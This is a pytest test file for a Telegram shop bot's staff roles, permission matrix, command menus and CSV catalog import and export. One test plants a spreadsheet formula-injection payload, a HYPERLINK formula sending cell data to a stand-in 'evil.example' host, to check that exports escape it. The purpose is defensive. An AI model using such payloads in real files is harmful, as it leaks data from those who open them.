"""Admins and producer managers at work, and who may do what."""

import csv
import io
import sqlite3
from datetime import date

import pytest
from support.botprocess import BotProcess, Shop
from support.journeys import answer_in_turn

from catalog import rules
from catalog.money import format_vnd
from emulators.telegram import Emulator, Person

pytestmark = pytest.mark.asyncio(loop_scope="module")

OIL = "BABE-BACHA-10"  # made by Bà Bé (producer code BABE)
NOT_ALLOWED = {"Thao tác này không được phép.", "That is not allowed."}


def query(shop: Shop, sql: str, *args: object) -> list[tuple[object, ...]]:
    with sqlite3.connect(shop.database) as db:
        return db.execute(sql, args).fetchall()


def product_row(shop: Shop, sku: str) -> tuple[object, ...]:
    [row] = query(shop, "SELECT stock, price, active FROM products WHERE sku = ?", sku)
    return row


async def ask(person: Person, text: str, chat: object = None) -> str:
    await person.send(text, chat=chat)  # type: ignore[arg-type]
    return (await person.next_message(chat=chat)).text  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def people(emulator: Emulator) -> dict[str, Person]:
    return {
        "manager_a": emulator.person("Bà Bé", language_code="vi"),
        "manager_b": emulator.person("Vinh", language_code="en"),
        "customer": emulator.person("Khách", language_code="vi"),
    }


async def test_admin_binds_managers(
    emulator: Emulator, bot_process: BotProcess, admin: Person, people: dict[str, Person]
) -> None:
    for person in people.values():
        await ask(person, "/start")
    reply = await ask(admin, f"/managers add {people['manager_a'].id} BABE")
    assert reply.startswith(f"✅ User {people['manager_a'].id} now manages")
    await ask(admin, f"/managers add {people['manager_b'].id} quangvinh")
    listing = await ask(admin, "/managers")
    assert f"{people['manager_a'].id} Bà Bé → BABE" in listing
    assert f"{people['manager_b'].id} Vinh → QUANGVINH" in listing
    assert (await ask(admin, "/managers add x BABE")).startswith("Usage: /managers")
    assert await ask(admin, "/managers add 5 NOPE") == "No producer has the code NOPE."


async def test_numbers_in_commands_are_plain_digits(admin: Person) -> None:
    # "²" is a digit to str.isdigit but no number: the usage line, as for any other mistake.
    assert (await ask(admin, "/lowstock ²")).startswith("Usage: /lowstock [N]")
    assert (await ask(admin, "/managers add ² BABE")).startswith("Usage: /managers")
    assert (await ask(admin, "/managers remove ²")).startswith("Usage: /managers")
    # More digits than any user id has.
    assert (await ask(admin, f"/managers add {'9' * 19} BABE")).startswith("Usage: /managers")


def menu(emulator: Emulator, scope: dict[str, object], language: str) -> dict[str, str]:
    """Telegram's command menu for a scope and language: command -> description."""
    commands = emulator.commands(scope, language)
    assert commands is not None, (scope, language)
    return {c["command"]: c["description"] for c in commands}


async def test_staff_find_their_tools_in_start_help_and_the_command_menu(
    emulator: Emulator, admin: Person, people: dict[str, Person]
) -> None:
    customer, manager = people["customer"], people["manager_a"]
    customer_help = await ask(customer, "/help")
    assert customer_help.startswith("Cách mua hàng")
    assert "/admin" not in customer_help
    assert "/stock" not in customer_help

    start = await ask(manager, "/start")
    assert "🛠 Bạn quản lý Cơ sở sản xuất tinh bột nghệ Bà Bé trên cửa hàng." in start
    assert "/admin, /stock, /price, /hide, /show, /lowstock, /product, /orders" in start
    assert "/managers" not in start
    manager_help = await ask(manager, "/help")
    assert "/stock MÃ 25 | +10 | -3 — đặt hoặc điều chỉnh tồn kho" in manager_help
    assert "/linkgroup — liên kết nhóm của bạn" in manager_help
    assert "/managers" not in manager_help
    admin_help = await ask(admin, "/help")
    assert "/managers — who manages which producer" in admin_help
    assert "/linkgroup — link a producer's Telegram group" in admin_help

    # Telegram's menu: each staff chat its own, in both languages; customers keep theirs.
    admin_chat = {"type": "chat", "chat_id": admin.id}
    manager_chat = {"type": "chat", "chat_id": manager.id}
    for language in ("", "vi", "en"):
        admin_menu, manager_menu = (
            menu(emulator, admin_chat, language),
            menu(emulator, manager_chat, language),
        )
        assert {"admin", "stock", "price", "managers", "linkgroup", "start", "help"} <= set(
            admin_menu
        )
        assert {"admin", "stock", "linkgroup", "start", "cart"} <= set(manager_menu)
        assert "managers" not in manager_menu
        assert emulator.commands({"type": "chat", "chat_id": customer.id}, language) is None
        group_menu = menu(emulator, {"type": "all_group_chats"}, language)
        assert {"accept", "ship", "deliver", "cancel", "orders", "link", "language"} <= set(
            group_menu
        )
        assert "stock" not in menu(emulator, {"type": "all_private_chats"}, language)
    assert menu(emulator, admin_chat, "vi")["stock"] == "Đặt hoặc điều chỉnh tồn kho"
    assert menu(emulator, admin_chat, "en")["stock"] == "Set or adjust a product's stock"
    assert menu(emulator, admin_chat, "") == menu(emulator, admin_chat, "vi")

    # No longer a manager: the customer's menu again; bound again: the tools are back.
    def manager_menus() -> list[object]:
        return [emulator.commands(manager_chat, language) for language in ("", "vi", "en")]

    await ask(admin, f"/managers remove {manager.id}")
    assert await emulator.wait_until(lambda: manager_menus() == [None] * 3 or None, 5)
    assert "🛠" not in await ask(manager, "/start")
    await ask(admin, f"/managers add {manager.id} BABE")
    assert await emulator.wait_until(lambda: all(manager_menus()) or None, 5)
    assert "stock" in menu(emulator, manager_chat, "en")


async def test_the_command_menus_are_set_again_at_startup(
    emulator: Emulator, bot_process: BotProcess, admin: Person, people: dict[str, Person]
) -> None:
    manager = people["manager_b"]
    emulator.bot.commands.clear()
    await bot_process.restart()
    await emulator.wait_until(
        lambda: emulator.commands({"type": "chat", "chat_id": manager.id}, "en"), 10
    )
    assert "stock" in menu(emulator, {"type": "chat", "chat_id": admin.id}, "en")
    assert "admin" in menu(emulator, {"type": "chat", "chat_id": manager.id}, "vi")
    assert "start" in menu(emulator, {"type": "all_private_chats"}, "en")


# (command, may the admin, manager of BABE, manager of QUANGVINH, a customer use it on OIL)
MATRIX = [
    (f"/stock {OIL} 30", True, True, False, False),
    (f"/stock {OIL} +5", True, True, False, False),
    (f"/price {OIL} 95.000", True, True, False, False),
    (f"/hide {OIL}", True, True, False, False),
    (f"/show {OIL}", True, True, False, False),
    (f"/history {OIL}", True, True, False, False),
    ("/lowstock 3", True, True, True, False),
    ("/stats week", True, True, True, False),
    ("/managers", True, False, False, False),
    ("/admin", True, True, True, False),
]


@pytest.mark.parametrize("role", ["admin", "manager_a", "manager_b", "customer"])
async def test_each_role_may_do_only_its_own_part(
    role: str,
    admin: Person,
    people: dict[str, Person],
    shop: Shop,
) -> None:
    person = admin if role == "admin" else people[role]
    column = ["admin", "manager_a", "manager_b", "customer"].index(role) + 1
    for row in MATRIX:
        command, allowed = str(row[0]), bool(row[column])
        before = product_row(shop, OIL)
        reply = await ask(person, command)
        if allowed:
            assert reply not in NOT_ALLOWED, (role, command)
        else:
            assert reply in NOT_ALLOWED, (role, command, reply)
            assert product_row(shop, OIL) == before, (role, command)


async def test_stock_and_price_commands_explain_mistakes_and_show_at_once(
    emulator: Emulator, admin: Person, people: dict[str, Person], shop: Shop
) -> None:
    manager = people["manager_a"]
    assert (await ask(manager, "/stock BABE-BACHA-1O 5")).startswith(
        "Không có sản phẩm mã BABE-BACHA-1O. Có phải bạn muốn: BABE-BACHA-10"
    )
    assert (await ask(manager, "/stock")).startswith("Cách dùng: /stock SKU 25")
    assert (await ask(manager, f"/stock {OIL} -99999")).startswith("Tồn kho không thể dưới 0")
    assert (await ask(manager, f"/price {OIL} 0")).startswith("Giá phải lớn hơn 0")
    assert (await ask(manager, f"/price {OIL} 12,5")).startswith("Cách dùng: /price")
    assert (await ask(manager, "/stock MY SKU 5")).startswith("Cách dùng")
    stock_before = product_row(shop, OIL)[0]
    assert await ask(manager, f"/stock {OIL} 12") == (
        f"📦 Tinh dầu bạc hà ({OIL}): tồn kho {stock_before} → 12"
    )
    assert product_row(shop, OIL)[0] == 12
    price = await ask(manager, f"/price {OIL} 88.000")
    assert price.endswith(f"→ {format_vnd(88_000, 'vi')}")

    customer = people["customer"]
    await customer.send("tinh dau bac ha")
    await customer.next_message()
    await customer.press(f"Tinh dầu bạc hà · {format_vnd(88_000, 'vi')}")
    card = await customer.next_message()
    assert "✅ Còn hàng: 12" in card.text

    await ask(manager, f"/hide {OIL}")
    await customer.send("tinh dau bac ha")
    assert (await customer.next_message()).text.startswith("Không tìm thấy gì")
    history = await ask(admin, f"/history {OIL}")
    assert "active: True → False · command" in history
    assert "price:" in history
    assert "stock:" in history


async def test_admin_commands_in_a_group_are_only_for_admins(
    emulator: Emulator, admin: Person, people: dict[str, Person], shop: Shop
) -> None:
    group = emulator.group("Nhóm bàn hàng")
    manager = people["manager_a"]
    await group.add_bot(by=manager)
    await manager.wait_for(lambda m: "/linkgroup" in m.text, chat=group)
    before = product_row(shop, OIL)
    assert await ask(manager, f"/stock {OIL} 99", chat=group) in NOT_ALLOWED
    assert product_row(shop, OIL) == before
    assert (await ask(admin, f"/stock {OIL} 7", chat=group)).endswith("→ 7")


async def test_a_manager_adds_a_product_with_the_wizard(
    emulator: Emulator, people: dict[str, Person], shop: Shop
) -> None:
    manager = people["manager_b"]  # English, manages Quang Vinh Ceramics
    assert (await ask(manager, "/product")).startswith("📷 Send a photo")
    await manager.press("⏭ No photo")
    answers = [
        ("Bình gốm <Men lam> & 🏺", "name in English"),
        ("Blue glaze vase", "price in đồng"),
        ("abc", "whole number of đồng"),
        ("450.000", "unit in Vietnamese"),
        ("chiếc", "unit in English"),
        ("piece", "How many are in stock"),
        ("7", "How many OCOP stars"),
    ]
    await answer_in_turn(manager, answers)
    assert await ask(manager, "four") == "Please answer with the buttons below."
    await manager.wait_for(lambda m: "How many OCOP stars" in m.text)
    await manager.press("⭐⭐⭐⭐ 4")
    await manager.wait_for(lambda m: "When was its OCOP certificate granted" in m.text)
    # A year ago, in the middle of March: valid for three years from that day.
    granted = date(rules.shop_now().year - 1, 3, 15)
    await answer_in_turn(
        manager,
        [
            (f"31/02/{granted.year}", "Please type the date like 15/03/2024"),
            (f"{rules.latest_ocop_year(rules.shop_now()) + 1}", "from 2010 to"),
            (f"15/3/{granted.year}", "Which category"),
        ],
    )
    assert await ask(manager, "hello") == "Please answer with the buttons below."
    await manager.press("Handicrafts")
    summary = await manager.wait_for(lambda m: "New product" in m.text)
    assert "Bình gốm <Men lam> & 🏺" in summary.text
    assert "Quang Vinh Ceramics" in summary.text
    rating = f"⭐⭐⭐⭐ OCOP 4 stars, {granted.year}, valid until 15/03/{granted.year + 3}"
    assert rating in summary.text
    await manager.press("✅ Add it")
    done = await manager.wait_for(lambda m: m.text.startswith("✅ Added"))
    sku = done.text.split("SKU ")[1].split(".")[0]
    assert sku.startswith("QUANGVINH-")
    assert query(
        shop, "SELECT price, stock, active, ocop_stars, ocop_granted FROM products WHERE sku = ?",
        sku,
    ) == [(450_000, 7, 1, 4, granted.isoformat())]  # fmt: skip
    await manager.send("blue glaze vase")
    results = await manager.next_message()
    [label] = [label for row in manager.buttons(results) for label in row if "Blue glaze" in label]
    await manager.press(label)
    card = await manager.wait_for(lambda m: m.text.startswith("Blue glaze vase"))
    assert rating in card.text


async def test_the_catalog_goes_out_and_back_in_as_a_spreadsheet(
    emulator: Emulator, admin: Person, people: dict[str, Person], shop: Shop
) -> None:
    await admin.send("/export csv")
    exported = await admin.next_message()
    assert exported.document is not None
    assert exported.document.file_name == "ocop-catalog.csv"
    text = exported.document.data.decode("utf-8-sig")
    assert text.startswith("sku,producer_code,producer_name_vi")
    assert "BABE-SA-10" in text

    # Three sell at the stall while the file is being edited; the admin records them.
    [(stock,)] = query(shop, "SELECT stock FROM products WHERE sku = 'BABE-SA-10'")
    assert stock >= 3
    assert (await ask(admin, "/stock BABE-SA-10 -3")).endswith(f"→ {stock - 3}")

    # A manager raises a price of their own product through the file: imported, audited, and
    # the three sold stay sold.
    manager = people["manager_a"]
    lines = text.splitlines()
    header, own = lines[0], [line for line in lines if line.startswith("BABE-SA-10,")]
    assert f",75000,{stock},{stock}," in own[0]  # the stock, and the stock at export
    edited = own[0].replace(",75000,", ",77000,")
    await manager.send_document(f"{header}\n{edited}\n".encode(), "gia-moi.csv")
    done = await manager.next_message()
    assert done.text.splitlines() == [
        "✅ Đã nhập: 0 mới, 1 cập nhật, 0 không đổi.",
        "📦 1 dòng có số tồn kho lúc xuất file (stock_at_export): số bạn sửa ở cột “stock” "
        "được tính là thay đổi so với tồn kho hôm nay, nên hàng đã bán sau khi xuất file vẫn "
        "là đã bán.",
        "Trong đó 1 sản phẩm đã bán bớt hoặc được nhập thêm sau khi xuất file.",
    ]
    assert query(shop, "SELECT price, stock FROM products WHERE sku = 'BABE-SA-10'") == [
        (77_000, stock - 3)
    ]
    assert "price: 75000 → 77000 · nhập file" in await ask(manager, "/history BABE-SA-10")

    # A broken price, then another producer's row: nothing changes, the rows are named.
    broken = edited.replace(",77000,", ",abc,")
    await manager.send_document(f"{header}\n{edited}\n{broken}\n".encode(), "sai.csv")
    refusal = await manager.next_message()
    assert refusal.text.startswith("❌ Chưa nhập gì cả: có 2 lỗi.")
    assert "dòng 3, price_vnd: giá là số đồng nguyên, như 180000 (“abc”)" in refusal.text
    other = next(line for line in lines if line.startswith("QUANGVINH-SEN-AC,"))
    await manager.send_document(f"{header}\n{other}\n".encode(), "khac.csv")
    refusal = await manager.next_message()
    assert "dòng 2" in refusal.text
    assert "thuộc cơ sở khác" in refusal.text
    assert query(shop, "SELECT price FROM products WHERE sku = 'BABE-SA-10'") == [(77_000,)]

    customer = people["customer"]
    await customer.send_document(f"{header}\n{edited}\n".encode(), "x.csv")
    assert (await customer.next_message()).text in NOT_ALLOWED
    await manager.send_document(b"\x89PNG\r\n", "anh.png")
    assert (await manager.next_message()).text == "Hãy gửi danh mục dạng file .csv hoặc .xlsx."


async def test_a_formula_typed_as_a_name_goes_out_as_text_and_comes_back_the_same(
    admin: Person, shop: Shop
) -> None:
    await admin.send("/export csv")
    exported = (await admin.next_message()).document
    assert exported is not None
    header, *rows = csv.reader(io.StringIO(exported.data.decode("utf-8-sig"), newline=""))
    link = dict(zip(header, next(row for row in rows if row[0] == "BABE-SA-10"), strict=True))
    trap = '=HYPERLINK("http://evil.example/?"&A1,"Giảm giá 50%")'
    link |= {"sku": "BABE-LINK", "name_vi": trap, "name_en": "-1+1", "stock_at_export": ""}
    await admin.send_document(csv_bytes(header, [list(link.values())]), "them.csv")
    assert (await admin.next_message()).text.startswith("✅ Imported: 1 new, 0 updated")
    assert query(shop, "SELECT name_vi, name_en FROM products WHERE sku = 'BABE-LINK'") == [
        (trap, "-1+1")
    ]

    await admin.send("/export csv")
    exported = (await admin.next_message()).document
    assert exported is not None
    data = exported.data
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    cells = dict(zip(header, next(row for row in rows if row[0] == "BABE-LINK"), strict=True))
    # A spreadsheet app shows these as text instead of running them.
    assert (cells["name_vi"], cells["name_en"]) == (f"'{trap}", "'-1+1")
    await admin.send_document(data, "lai.csv")
    assert (await admin.next_message()).text.startswith(
        f"✅ Imported: 0 new, 0 updated, {len(rows)} unchanged."
    )


def csv_bytes(header: list[str], rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    return buffer.getvalue().encode("utf-8-sig")
